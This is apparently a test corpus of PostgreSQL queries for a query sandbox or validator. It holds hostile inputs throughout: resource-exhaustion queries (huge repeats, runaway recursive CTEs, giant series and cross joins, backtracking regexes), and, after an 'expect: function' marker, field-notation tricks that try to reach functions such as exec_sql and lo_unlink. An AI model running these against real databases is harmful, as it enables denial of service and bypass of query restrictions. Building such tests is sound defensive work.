select regexp_replace(repeat('a', 100000), 'a', repeat('b', 1000), 'g')

select array_to_string(array_fill('x'::text, array[10000]), repeat('x', 100000))

select string_agg(repeat('x', 100000), '') from orders

select string_agg(repeat('x', 1000), '') from generate_series(1, 100000)

select array_agg(repeat('x', 200000)) from orders

select array(select repeat('x', 200000) from orders)

with a as (select repeat('x', 200000) s), b as (select s || s || s || s || s || s || s || s as s from a), c as (select s || s || s || s || s || s || s || s as s from b), d as (select s || s || s || s || s || s || s || s as s from c) select length(s) from d

with a as (select repeat('x', 200000) s), b as (select concat(s, s, s, s, s, s, s, s) as s from a), c as (select concat(s, s, s, s, s, s, s, s) as s from b), d as (select concat(s, s, s, s, s, s, s, s) as s from c) select length(s) from d

with recursive r(s, n) as (select 'x', 1 union all select s || s, n + 1 from r where n < 40) select length(s) from r

with recursive r(s, n) as (select 'x', 1 union all select concat(s, s), n + 1 from r where n < 40) select length(s) from r

with recursive r(a, n) as (select array[1], 1 union all select a || a, n + 1 from r where n < 40) select n from r

with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t) select * from t

with recursive t as (select 1 union all select 1 from t) select * from t

with recursive t(n) as (select 1 union all select n + 1 from t where true) select * from t

with recursive t(n) as (select 1 union all select n + 1 from t, orders) select * from t

with recursive t(n) as (select 1 union all select n from t, (values (1), (2)) v) select * from t

with recursive t(n) as (select 1 union all select n + 1 from t) select n from t order by n limit 10

with recursive t(n) as (select 1 union all select n + 1 from t) select max(n) from t limit 10

with recursive t(n) as (select 1 union select n + 1 from t) select n from t where n < 0 limit 1

select * from generate_series(1, 1000000000)

select generate_series(1, 10000000)

select count(*) from generate_series(1, 10^9::int)

select count(*) from generate_series(1, 1000000000, 2)

select count(*) from generate_series(1000000000, 1, -1)

select count(*) from generate_series(0, 1, 0.00000001)

select count(*) from generate_series(1, 5, 0)

select count(*) from generate_series('2000-01-01'::timestamp, '2024-01-01'::timestamp, '1 second')

select count(*) from generate_series('0001-01-01'::date, '9999-01-01'::date, '1 day')

select count(*) from generate_series(now(), now() + interval '1 year', '1 microsecond')

select count(*) from generate_series(date '2024-01-01', date '2025-01-01', interval '0 days')

select count(*) from generate_series(1, (select 1000000000))

select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b

select count(*) from generate_series(1, 100000) a cross join generate_series(1, 100000) b

select count(*) from generate_series(1, 100000) a join generate_series(1, 100000) b on true

select count(*) from generate_series(1, 100000) a join generate_series(1, 100000) b on a < b

select count(*) from (select generate_series(1, 100000)) a, (select generate_series(1, 100000)) b

with a as (select generate_series(1, 100000) n) select count(*) from a x, a y

select count(*) from orders a, orders b, orders c, orders d

select count(*) from orders a cross join orders b cross join orders c cross join orders d cross join orders e

select power(10, 1000000)

select 10 ^ 1000000

select 10::numeric ^ 100000::numeric

select pow(2::numeric, 100000)

select factorial(100000)

select factorial(30000)

select 1e100000

select 1e-100000

select name ~ '(a*)*(b*)*\1' from customers

select regexp_match(name, '((a+)+)+\1') from customers

select row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row('"')::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text

select polygon(100000000, circle '<(0,0),1>')

select string_agg(repeat('x', n), '') from (select 4000000 as n) q, orders

select repeat('x', id * 1000000 / total) from orders, generate_series(1, 10000000)

select repeat('x', id * 1000000000 / quantity) from order_items

select generate_series(1, 1e12)

select generate_series(1, 1000000000000)

select count(*) from generate_series(1, 2147483647)

select generate_series(1, 9e18::bigint)

select generate_series(1, 10, 0)

select generate_series(1, 1000000, 0.0000001)

select * from generate_series(1, 100000) a, generate_series(1, 100000) b

select * from generate_series(1, 10000) a cross join lateral generate_series(1, 10000) b cross join generate_series(1, 1000)

select generate_series('0001-01-01'::timestamp, '9999-01-01', '1 microsecond')

select generate_series('2020-01-01'::timestamp, 'infinity', '1 day')

select generate_series(now(), now() + interval '1000 years', interval '1 millisecond')

select generate_series(1, (select 1e15)::bigint)

select generate_series(1, 99999 * 99999)

select generate_series(1, 10 ^ 12)

select generate_series(1, power(10, 12)::bigint)

select generate_series(1, length(repeat('x', 200000)) * 1000000)

select repeat(repeat('x', 100000), 100000)

select repeat('x', power(10,9)::int)

select repeat('x', (10 ^ 9)::int)

select repeat('x', '1000000000'::int)

select repeat('x', case when true then 1000000000 end)

select repeat('x', nullif(1000000000, 1))

select repeat('x', n) from (select 1000000000 as n) v

with v as (select 1000000000 as n) select repeat('x', n) from v

select repeat('x', n) from unnest(array[1000000000]) n

select repeat('x', (array[1000000000])[1])

select repeat('x', (row_to_json(row(1000000000))->>'f1')::int)

select repeat('x', ('{"n":1000000000}'::jsonb->>'n')::int)

select repeat('x', ('{"n":1000000000}'::jsonb->'n')::int)

select repeat('x', to_number('1000000000','9999999999')::int)

select repeat('x', length(repeat('x',100000)) * 10000)

select repeat('x', x'3B9ACA00'::int)

select repeat('x', ascii('€') * 100000)

select repeat('x', sum(100000000)::int) from generate_series(1,10)

select repeat('x', count(*)::int * 1000000000) from orders

select repeat('x', ~(-1000000000))

select repeat('x', round(1e9)::int)

select repeat('x', date '2024-01-01' - date '4000-01-01' + 1000000000)

select lpad('x', 1000000000, 'y')

select rpad('', 1000000000)

select to_char(1, repeat('9', 100000000))

select to_char(1, rpad('9', 100000000, '9'))

select array_fill(1, array[1000000000])

select array_fill(1, array[10000, 10000, 1000])

select array_fill(repeat('x', 100000), array[100000])

select string_agg(repeat('x', 100000), '') from generate_series(1, 100000)

select array_agg(repeat('x', 100000)) from generate_series(1, 100000)

select json_agg(repeat('x', 100000)) from generate_series(1, 100000)

select string_agg(a.name, b.name) from customers a, customers b, customers c, customers d

select count(*) from customers a, customers b, customers c, customers d, customers e

select count(*) from customers a cross join customers b cross join customers c cross join customers d

select 1 from generate_series(1,1000) a, generate_series(1,1000) b, generate_series(1,1000) c

select replace(repeat('x', 100000), 'x', repeat('y', 100000))

select regexp_replace(repeat('x', 100000), 'x', repeat('y', 100000), 'g')

select translate(repeat('x', 200000), 'x', 'y') || repeat('z', 1000000000)

select overlay(repeat('x',100) placing repeat('y',1000000000) from 1)

select concat(repeat('x', 200000), repeat('x', 1000000000))

select 'a' || repeat('x', 1000000000)

select 10 ^ 100000

select power(10::numeric, 100000)

select 2::numeric ^ 1000000

select 1e130000

select 9999999999 ^ 9999

select 'x' ~ '(a*)*b\1\1\1(a*)*(b*)*(c*)*'

select 'aaaaaaaaaaaaaaaaaaaa' ~ '^(a+)+\1(a+)+\2(a+)+$'

select 'x' similar to repeat('(x|', 100000)

select repeat('%a', 200000) like repeat('%a', 200000)

with recursive t(n) as (select 1 union all select n + 1 from t) select * from t order by n limit 5

with recursive t(n, s) as (select 1, 'x' union all select n + 1, s || s from t where n < 100) select * from t

with recursive t(n, s) as (select 1, 'x' union all select n + 1, concat(s, s) from t where n < 100) select * from t

with recursive t(n, s) as (select 1, 'x' union all select n + 1, replace(s, 'x', 'xx') from t where n < 100) select * from t

with recursive t(n, s) as (select 1, array[1] union all select n + 1, s || s from t where n < 100) select * from t

with recursive t(n, s) as (select 1, 'x' union all select n + 1, format('%s%s', s, s) from t where n < 60) select length(s) from t

with recursive t(n) as (select 1 union all (select a.n + 1 from t a, generate_series(1, 100000)) ) select count(*) from t

with recursive t(n) as (select 1 union select (random() * 1e9)::int from t) select count(*) from t

select (with recursive t(n) as (select 1 union all select n+1 from t) select max(n) from t)

select jsonb_build_object(variadic array_fill('x'::text, array[100000000]))

select polygon(1000000000, circle '((0,0),1)')

select ts_headline(repeat('x ', 10000000), 'x'::tsquery)

select int4range(1, 5), unnest(array_fill(1, array[1000000000]))

select bit '1'::bit(83886080)

select cast('1' as bit(1000000000))

select cast('x' as char(10485760))

select set_bit(repeat('x', 1000000000)::bytea, 1, 1)

select decode(repeat('ff', 1000000000), 'hex')

select xmin_ from (select repeat('x', 1000000000) as xmin_) q

select convert_from(repeat('x', 1000000000)::bytea, 'utf8')

select array_to_string(array_fill('x'::text, array[100000]), repeat('y', 100000))

select concat_ws(repeat('x', 200000), variadic array_fill('y'::text, array[60000]))

select string_agg(name, repeat('x', 200000)) from customers, generate_series(1, 100000)

select lpad(repeat('x', 1000), 4194304 * 100, 'z') from orders

select quote_literal(repeat('''', 260000)) || quote_literal(repeat('''', 260000000))

select 1 ++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++++ 1

select 1 /*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*/*

select generate_series(timestamp 'infinity', now(), '-1 day')

select generate_series(1, x'7FFFFFFF'::int)

select repeat('x', b'111111111111111111111111111111'::int)

select repeat('x', ('1' || '000000000')::int)

select repeat('x', cast('1' || '000' || '000' || '000' as int))

select repeat('x', concat('1', '000000000')::int)

select repeat('x', (1 || '000000000')::int)

select repeat('x', int4('1' || '000000000'))

select repeat('x', to_number('1' || '000000000', '9999999999')::int)

select repeat('x', to_number('1,000,000,000', '9,999,999,999')::int)

select repeat('x', ('1e' || '9')::float::int)

select repeat('x', ('1' || 'e' || '9')::float8::int)

select repeat('x', replace('1x000x000x000', 'x', '')::int)

select repeat('x', replace('1aaaaaaaaa', 'a', '0')::int)

select repeat('x', translate('baaaaaaaaa', 'ab', '01')::int)

select repeat('x', substr('a1000000000', 2)::int)

select repeat('x', substring('a1000000000' from 2)::int)

select repeat('x', right('a1000000000', 10)::int)

select repeat('x', reverse('0000000001')::int)

select repeat('x', ltrim('abc1000000000', 'abc')::int)

select repeat('x', split_part('a,1000000000', ',', 2)::int)

select repeat('x', (string_to_array('a,1000000000', ','))[2]::int)

select repeat('x', regexp_replace('a1000000000', '[a-z]', '')::int)

select repeat('x', (regexp_match('a1000000000', '[0-9]+'))[1]::int)

select repeat('x', rpad('1', 10, '0')::int)

select repeat('x', ('1' || repeat('0', 9))::int)

select repeat('x', format('%s000000000', 1)::int)

select repeat('x', concat_ws('', '1', '000000000')::int)

select repeat('x', string_agg('9', '')::int) from orders

select repeat('x', (select string_agg('9', '') from generate_series(1, 9))::int)

select repeat('x', array_to_string(array[1, 0, 0, 0, 0, 0, 0, 0, 0, 0], '')::int)

select repeat('x', n) from (select ('1' || '000000000')::int as n) q

select repeat('x', n::int) from (select '1' || '000000000' as n) q

with b as (select '1' || '000000000' as n) select repeat('x', n::int) from b

select repeat('x', ('[1000000000]'::jsonb->>0)::int)

select repeat('x', ('1' || '000000000')::jsonb::int)

select repeat('x', (('{"n":1' || '000000000}')::jsonb->>'n')::int)

select repeat('x', n) from json_to_record(('{"n":1' || '000000000}')::json) as x(n int)

select repeat('x', (jsonb_path_query_first('{}', '1000000000 * 2'))::int)

select repeat('x', (xpath.v)::int) from jsonb_array_elements_text('[1000000000]') as xpath(v)

select repeat('x', to_char(1, 'FM9"000000000"')::int)

select repeat('x', to_char(1, 'FM9V999999999')::int)

select repeat('x', to_char(now(), 'YYYYMMDDHH24')::int)

select repeat('x', ('x' || md5('a'))::bit(32)::int)

select repeat('x', abs(hashtext('a')))

select repeat('x', ascii('a') * 10000000)

select repeat('x', lcm(31622, 31627))

select repeat('x', tan(1.5707963)::int)

select repeat('x', (1000 / (pi() / 1000000))::int)

select repeat('x', log(1.00000001, 10)::int)

select repeat('x', degrees(100000000)::int)

select repeat('x', div(1000000, 0.0001)::int)

select repeat('x', (date '5874897-01-01' - date '2000-01-01'))

select repeat('x', (('5874897' || '-01-01')::date - date '2000-01-01'))

select repeat('abcdefghij', date '9999-01-01' - date '0001-01-01')

select repeat('x', make_date(5874897, 1, 1) - make_date(2000, 1, 1))

select repeat('x', extract(day from interval '1000000000 days')::int)

select repeat('x', ('127.255.255.255'::inet - '0.0.0.0'::inet)::int)

select repeat('x', area(circle '<(0,0),20000>')::int)

select repeat('x', upper(('[1,' || '1000000000)')::int4range))

select repeat('x', (select sum(n) from generate_series(1, 50000) n)::int)

select repeat('x', sum(1000000)::int) from orders

select repeat('x', random(1, 1000000000))

select repeat('x', substring(random()::text from 3 for 9)::int)

select lpad('x', ('1' || '000000000')::int)

select rpad('x', concat('10', '00000000')::int, 'y')

select array_fill(0, array[('1' || '00000000')::int])

select array_fill(0, ('{1' || '00000000}')::int[])

select count(*) from generate_series(1, ('1' || '000000000')::int)

select count(*) from generate_series(1, ('1' || '000000000')::int, ('1' || '0')::int)

select count(*) from generate_series(('-1' || '000000000')::int, 0)

select count(*) from generate_series(1, length(repeat('x', 250000)) * ('1' || '0000')::int)

select 10 ^ ('1' || '00000')::int

select power(10::numeric, ('1' || '00000')::numeric)

select factorial(('3' || '0000')::int)

select format('%' || '1000000000' || 's', 'x')

select name ~ ('(a*)*(b*)*' || '\1') from customers

select name ~ p from customers, (select '(a*)*(b*)*\1' as p) q

select regexp_replace(name, concat('(a*)*(b*)*', '\', '1'), '') from customers

select count(*) from unnest(array_fill(0, array[60000])) a, unnest(array_fill(0, array[60000])) b

select count(*) from string_to_table(repeat('1,', 100000), ',') a cross join string_to_table(repeat('1,', 100000), ',') b

with a as (select 1 x union all select 1), b as (select 1 y from a, a a2, a a3, a a4), c as (select 1 z from b, b b2, b b3, b b4), d as (select 1 from c, c c2, c c3, c c4) select count(*) from d

with recursive t(n) as (select 1 union all select n + 1 from t where n < 1000000000) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t where n < ('1' || '000000000')::int) select count(*) from t

with a as (select 1 as x from orders, orders o2), b as (select 1 as x from a, a a2) select count(*) from b

select count(*) from (select 1 from orders a cross join orders b) x, (select 1 from orders c, orders d) y

select repeat('x', replace((1 / 3.0)::text, '0.', '')::int)

select generate_series(1, split_part((0.123456789)::text, '.', 2)::int)

select generate_series(1, (substr(pi()::text, 3))::int)

select repeat('x', (('[1000000000, 1]'::jsonb - 1)->>0)::int)

select repeat('x', (('[1000000000, 1]'::jsonb - 1)[0])::int)

select repeat('x', ('[1000000000]'::jsonb->>0)::int)

select repeat('x', (('{"n":1' || '000000000}')::jsonb->>'n')::int)

select repeat('x', translate('abbbbbbbbb', 'ab', '10')::int)

select repeat('x', jsonb_path_query_first('{}', '1000000000')::int)

select repeat('x', ((9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text || (9 + 0 * total)::text)::int) from orders

select generate_series(1, ('1_000_000_000' * 1)::int)

select repeat('x', (sum(1000000))::int) from orders

select name ~ ('(a*)*(b*)*' || ('["\\1"]'::jsonb->>0)) from customers

select name ~ ('(a*)*(b*)*' || ('["\u005c1"]'::jsonb->>0)) from customers

select name similar to '(a*)*(b*)*#"c#"#1' escape '#' from customers

select name similar to ('(a*)*(b*)*#"c#"#' || '1') escape '#' from customers

select name similar to '(a*)*(b*)*\1' from customers

select count(*) from orders a cross join lateral (select 1 from orders) b cross join lateral (select 1 from orders) c cross join lateral (select 1 from orders) d

select count(*) from orders a cross join lateral (select 1 from (select 1 from orders b, orders c, orders d) x where true) y cross join orders e

select count(*) from (select total from orders limit 2) a, (select total from orders limit 2) b, (select total from orders limit 2) c, (select total from orders limit 2) d

select count(*) from (select total from orders order by status fetch first 1 row with ties) a, (select total from orders order by status fetch first 1 row with ties) b, (select total from orders order by status fetch first 1 row with ties) c, (select total from orders order by status fetch first 1 row with ties) d

select count(*) from (select distinct id from orders) a, (select distinct id from orders) b, (select distinct id from orders) c, (select distinct id from orders) d, (select distinct id from orders) e, (select distinct id from orders) f, (select distinct id from orders) g, (select distinct id from orders) h

with recursive one as (select 1 as x), t(n) as (select 1 union all select n + 1 from t, one where n < 1000000000) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t, one where n < 1000000000), one as (select 1 as x) select count(*) from t

with recursive t(n) as (select 1 union all (with one as (select 1) select n + 1 from t, one where n < 1000000000)) select count(*) from t

with recursive t(n) as (select min(id) from orders union all select n + 1 from t where n < 1000000000) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t where n < 1000000000 and n < (with recursive u(k) as (select 1 union all select k + 1 from u where k < 3) select 2000000000 from u limit 1)) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t where n < 1000000000 and exists (with recursive u(k) as (select 1 union all select k + 1 from u where k < 3) select 1 from u)) select count(*) from t

with recursive t(n) as (select 1 union all select n + 1 from t where n < 1000000000 or n < 10) select count(*) from t

with recursive t(n, one) as (select 1, 1 union all select n + 1, one from t where n < 1000000000 and one < 5) select count(*) from t

with recursive t(n, m) as (select 1, 1 union all select n + 1, n + 1 from t where n < 1000000000 and m + 1 < 5) select count(*) from t

with recursive t(n) as (select 1 union all select t.n + 1 from t, (select 1 as n) v where v.n < 5 and t.n < 1000000000) select count(*) from t

select repeat('x', substr(sqrt(2)::text, 3, 9)::int)

select repeat('x', substr((|/ 2)::text, 3, 9)::int)

select repeat('x', substr(exp(2.5)::text, 4, 9)::int)

select repeat('x', substr((1.0 / n)::text, 3, 9)::int) from generate_series(3, 3) n

select repeat('x', substr(ln(2) || '', 3, 9)::int)

select repeat('x', substr(stddev(n)::text, 3, 9)::int) from generate_series(1, 5) n

select repeat('x', replace(avg(n)::text, '.', '')::int) from generate_series(1, 3) n

select repeat('x', (true::int::text || true::int::text || true::int::text || true::int::text || true::int::text || true::int::text || true::int::text || true::int::text || true::int::text)::int)

select repeat('x', ((total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text || (total > 0)::int::text)::int) from orders

select repeat('x', ((total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text || (total is not null)::int::text)::int) from orders

with recursive t(n,s) as (select 1,'x' union all select n+1, encode(s::bytea,'hex') from t where n<40) select length(s) from t

with recursive t(n,s) as (select 1,'x' union all select n+1, encode(decode(s,'escape'),'hex') from t where n<40) select length(s) from t

with recursive t(n,s) as (select 1,'x' union all select n+1, encode(s::bytea,'base64') from t where n<80) select length(s) from t

select count(*) from generate_series(now() - interval '1000 years', now(), '1 second')

select array_agg(d) from (select generate_series(now() - interval '1000 years', now(), '1 second') d) q

select count(*) from generate_series(current_date - 1000000, now(), '1 minute')

select count(*) from generate_series('0001-01-01'::timestamp, now(), '1 minute')

select repeat('x', to_char(timestamp '2030-01-01','J')::int*100)

select repeat('x', log(1.0000001, 1000)::int)

-- expect: function

select o.exec_sql from concat('delete from orders') o

select o.exec_sql from lower('select 1') as o

select o.exec_sql from lower('x') o order by o.exec_sql

select 1 from lower('x') o order by o.exec_sql

select 1 from lower('x') o where o.exec_sql = 'x'

select count(*) from lower('x') o group by o.exec_sql

select count(*) from lower('x') o having max(o.exec_sql) is null

select max(o.exec_sql) from lower('x') o

select row_number() over (partition by o.exec_sql) from lower('x') o

select row_number() over w from lower('x') o window w as (order by o.exec_sql)

select distinct on (o.exec_sql) 1 from lower('x') o

select 1 from lower('x') o limit length(o.exec_sql)

select case when o.exec_sql is null then 1 end from lower('x') o

select (o).exec_sql from lower('x') o

select (o).o from lower('x') o

select (o).c from lower('x') as o(c)

select (o.o).exec_sql from lower('x') o

select (o.c).exec_sql from lower('x') as o(c)

select (c).exec_sql from lower('x') as o(c)

select (o.*).exec_sql from lower('x') o

select u.f from unnest(array['a', 'b']) u

select u.exec_sql from unnest('{a,b}'::text[]) as u(f)

select u.exec_sql from unnest(array['a']) with ordinality as u(f, n)

select g.exec_sql from generate_series(1, 3) g

select s.exec_sql from string_to_table('a,b', ',') s

select exec_sql.exec_sql from jsonb_array_elements_text('["x"]') exec_sql

select e.e from json_array_elements('[1]') e

select e.exec_sql from json_each_text('{"a": 1}') e

select r.exec_sql from regexp_split_to_table('a b', ' ') r

select c.exec_sql from current_date c

select c.exec_sql from coalesce('a', 'b') c

select c.exec_sql from cast('a' as text) c

select r.exec_sql from rows from (lower('x'), upper('y')) r

select r.exec_sql from rows from (lower('x')) as r

select r.lower from rows from (lower('x')) as r

select lower.exec_sql from lower('x')

select r.exec_sql from rows from (json_to_record('{"a": 1}') as (a text), lower('x')) as r(a, b)

select x.exec_sql from json_to_record('{"a": "b"}') as x(a text)

select q.exec_sql from (select 'x'::text as a) q

select (q.a).exec_sql from (select 'x'::text as a) q

select (q).exec_sql from (select 'x'::text as a) q

select ((q).a).exec_sql from (select 'x'::text as a) q

select (a).exec_sql from (select 'x'::text as a) q

select v.exec_sql from (values ('x')) v

select v.column1 from (values ('x')) as v(exec)

select (v.column1).exec_sql from (values ('x')) v

select c.exec_sql from lower('x') c union all select 'y'

select 'y' union all select c.exec_sql from lower('x') c

with c as (select 'x'::text as a) select c.exec_sql from c

with c as (select 'x'::text as a) select (c.a).exec_sql from c

with c(b) as (select 'x'::text as a) select c.a from c

with c as (select u.exec_sql from unnest(array['x']) u) select * from c

with recursive c(a) as (select 'x' union select c.exec_sql from c where length(c.a) < 3) select a from c

with recursive c as (select b.exec_sql from b), b as (select 'x'::text as a) select * from c

select (select u.exec_sql) from unnest(array['x']) u

select exists (select 1 where u.exec_sql is not null) from unnest(array['x']) u

select x.y from unnest(array['x']) u, lateral (select u.exec_sql as y) x

select 1 from unnest(array['x']) u join orders o on u.exec_sql = o.status

select o.id from orders o where o.status in (select u.exec_sql from unnest(array['x']) u)

select a.exec_sql from orders o cross join lateral lower(o.status) a

select (select max(1) from (select 1 as exec_sql) a, orders t join customers c on a.exec_sql is not null) from lower('x') a

select (select max(1) from (select 1 as exec_sql) a, (select a.exec_sql) b) from lower('x') a

select (select 1 from ((select 1 as exec_sql) a cross join orders) j where a.exec_sql is not null) from lower('x') a

select j.exec_sql from ((select 1 as a) a cross join (select 2 as b) b) j

select j.total from (select 1 as id, 2 as total) a join (select 1 as id) b using (id) as j

select (select 'x').exec_sql

select ((select 'x'::text)).exec_sql

select (array['x'])[1].exec_sql

select (row('x')).f2

select (row('x')).exec_sql

select (q.r).exec_sql from (select row('x') as r) q

select ((row('x')).f1).exec_sql

select (array_agg(q))[1].a from (select 'x' as a) q

select (array_agg(o)).status from orders o

select ((array_agg(o))[1].status).exec_sql from orders o

select (o.status).exec_sql from orders o

select ((o).status).exec_sql from orders o

select (status).exec_sql from orders

select (select q).a from (select 'x' as a) q

select (coalesce('x', 'y')).exec_sql

select (greatest('x', 'y')).exec_sql

select (nullif('x', 'y')).exec_sql

select (case when true then 'x' end).exec_sql

select ('x' collate "C").exec_sql

select ('x'::text).exec_sql

select (lower('x')).exec_sql

select (max(status)).exec_sql from orders

select (jsonb_each('{}')).exec_sql

select (lag(status) over (order by id)).exec_sql from orders

select (current_date).exec_sql

select q.b from (select 'x' as a) as q(b), lateral (select q.a) z

select q.sum from (select sum(total) as revenue from orders) q

select q.status from (select lower(status) from orders) q

select (payload).amount from events

select (e.payload).amount from events e

select t.json_agg from orders t

select t.row_to_json from orders t

select orders.array_agg from orders

select (t).to_jsonb from orders t

select (array_agg(t))[1].jsonb_agg from orders t

select (q).exec_sql from (select name as q from customers) t, (select * from orders) q

select (q).ts_stat from (select 1 as ts_stat) q, (select c.*, 'select to_tsvector(x::text) from secret.pay'::text as q from customers c) as s(a)

select (q).exec_sql from (select 1 as exec_sql) q, (select o.*, 'sql'::text as q from orders o) as s(a)

select (q).currval from (select 1 as currval) q, (select o.*, 'sql'::text as q from orders o) as s(a)

select (q).lo_unlink from (select 1 as lo_unlink) q, (select o.*, 12345 as q from orders o) as s(a)

select (q).lo_creat from (select 1 as lo_creat) q, (select o.*, -1 as q from orders o) as s(a)

select (q).txid_status from (select 1 as txid_status) q, (select c.*, 12::bigint as q from customers c) as s(a)

select (q).to_regclass from (select 1 as to_regclass) q, (select c.*, 'secret.pay'::text as q from customers c) as s(a)

select (q).ts_stat.word from (select 1 as ts_stat) q, (select c.*, 'select to_tsvector(exec_sql(''boom''))'::text as q from customers c) as s(a)

select (q).regrole from (select 1 as regrole) q, (select c.*, 'postgres'::text as q from customers c) as s(a)

select (b).currval from (select 1 as currval) b, lateral (select (c.comp).* from (select o as comp from orders o) c) s, (select c.*, 'x'::text as b from customers c) as t(a)

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select z.* from (select 'boom'::text as c1) z)) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select (z).* from (select 'boom'::text as c1) z)) q

select (c1).ts_stat from (select 1 as ts_stat) c1, (select (select z.* from (select 'select 1'::text as c1) z)) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select z.* from (select 'boom'::text as c1) z)::text) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select case when false then 'x' else (select z.* from (select 'boom'::text as c1) z) end) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select z.* from (select 'boom'::text as c1) z) collate "C") q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select ((select z.* from (select array['boom'] as c1) z))[1]) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select (select z.* from (select 'boom'::text as c1) z))) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select * from (select 'boom'::text as c1) z)) q

select (c1).exec_sql from (select 1 as exec_sql) c1, (select (select z.* from (select 'boom'::text as c1) z union select 'y')) q

with q as (select (select z.* from (select 'boom'::text as c1) z)) select (c1).exec_sql from (select 1 as exec_sql) c1, q

with q as (select (select z.* from (select 'boom'::text as c1) z)), r as (select * from q) select (c1).exec_sql from (select 1 as exec_sql) c1, r

with recursive r as (select (c1).exec_sql from (select 1 as exec_sql) c1, q), q as (select (select z.* from (select 'boom'::text as c1) z)) select * from r

select (c1).exec_sql from (select 1 as exec_sql) c1, cast((select z.* from (select 'boom'::text as c1) z) as text)

with recursive a as (select (m).exec_sql from (select 1 as exec_sql) m, b), b(n) as (select 1 union all select n + 1 from b where n < 3) cycle n set m to text 'boom' default text 'x' using p select * from a

with recursive a as (select (p).exec_sql from (select 1 as exec_sql) p, b), b(n) as (select 1 union all select n + 1 from b where n < 3) search depth first by n set p select * from a

select evil.exec_sql from orders o, unnest(array[array['x', null], array[o.status]]) as evil(a)

select (status).exec_sql from (select 1 as exec_sql) status, (select array[o] as a from orders o) x, unnest(x.a) u

select (status).exec_sql from (select 1 as exec_sql) status, (select array[o, '(1,1,1,2024-01-01,,,boom,1,1,,,)'] as a from orders o) x, unnest(x.a) as u(i)

select (status).exec_sql from (select 1 as exec_sql) status, (select (array_agg(o)) as a from orders o) x, rows from (unnest(x.a, array[1])) u

select (status).exec_sql from (select 1 as exec_sql) status, (select o from orders o) x, coalesce(x.o) u

select (status).exec_sql from (select 1 as exec_sql) status, (select o from orders o) x, nullif(x.o, null) u

select (status).exec_sql from (select 1 as exec_sql) status, (select o from orders o) x, greatest(x.o, x.o) u

select (z.c).exec_sql from (select o as c from orders as o(exec_sql)) z

select (c).exec_sql from (select o as c from orders as o(exec_sql)) z

select (z.c).exec_sql from (select f as c from orders o, json_populate_record(o, '{}') as f(exec_sql)) z

select (z.c).exec_sql from (select f as c from (select array_agg(o) as a from orders o) x, unnest(x.a) as f(exec_sql)) z

select (c).exec_sql from (select q as c from (select 1 as exec_sql) q) a right join (select row('boom'::text) as c) b using (c)

select (j.c).exec_sql from ((select q as c from (select 1 as exec_sql) q) a right join (select row('boom'::text) as c) b using (c)) j

select (s.c).exec_sql from (select * from (select q as c from (select 1 as exec_sql) q) a natural right join (select row('boom'::text) as c) b) s

select (array(select o from orders o)).status from orders

select (exists (select o from orders o)).status

select (row(z.*)).f1 from (select) z

select ("ä").exec_sql from (select 1 as exec_sql) "ä", (select 'boom'::text as b) x

select (a23456789012345678901234567890123456789012345678901234567890).exec_sql from (select 1 as exec_sql) a23456789012345678901234567890123456789012345678901234567890

select (id).exec_sql from (select 1 as exec_sql) id, unnest((select array_agg(o) from orders o)) u

select (f1).exec_sql from (select 1 as exec_sql) f1, (select r.* from (select row('boom'::text) as x) y, lateral (select (y.x).*) r) q

select ((o)).exec_sql from (select 1 as exec_sql) o, (select c.*, 'boom'::text as o from customers c) as s(a)

select (s.r).exec_sql from (select (select q from (select 1 as exec_sql) q limit 1) as r from (select c.*, 'boom'::text as q from customers c) as s(a)) s

select x.exec_sql from (select (q).* from (select 1 as exec_sql) q, (select o.*, row('boom'::text) as q from orders o) as s(a)) x where (exec_sql).exec_sql is null

select z.exec_sql from (select (q).exec_sql from (select 1 as exec_sql) q, (select o.*, 'boom'::text as q from orders o) as s(a)) z

select (q).exec_sql from (select 1 as exec_sql) q, orders as s(q)

select (q).exec_sql from (select 1 as exec_sql) q, (orders join customers on true) as s(a, q)

select (q).exec_sql from (select 1 as exec_sql) q, json_populate_recordset((select null), '[]') s

